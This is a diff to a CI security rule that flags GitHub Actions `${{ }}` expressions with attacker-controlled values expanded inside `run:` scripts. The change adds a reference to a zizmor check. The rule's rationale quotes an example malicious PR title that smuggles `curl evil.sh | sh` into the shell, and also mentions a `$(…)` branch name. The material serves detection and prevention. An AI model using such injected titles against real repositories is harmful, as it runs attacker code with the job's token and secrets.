@@ -20,6 +20,7 @@ export default defineRule({
   id: "ci/script-injection",
   category: "ci",
   severity: "error",
+  sources: [{ tool: "zizmor", check: "template-injection" }],
   summary: "An attacker-controlled value (PR title, issue body, branch name, commit message) is expanded inside `run:`",
   rationale:
     '`${{ }}` is substituted into the script text before the shell runs it, so a pull request titled `a"; curl evil.sh | sh; echo "` or a branch named `$(…)` runs its own commands in the job, with its token and secrets — on a self-hosted GPU runner, on your machine. Titles, bodies, comments, commit messages, author names and head branch names are all chosen by whoever opens the PR or issue.',
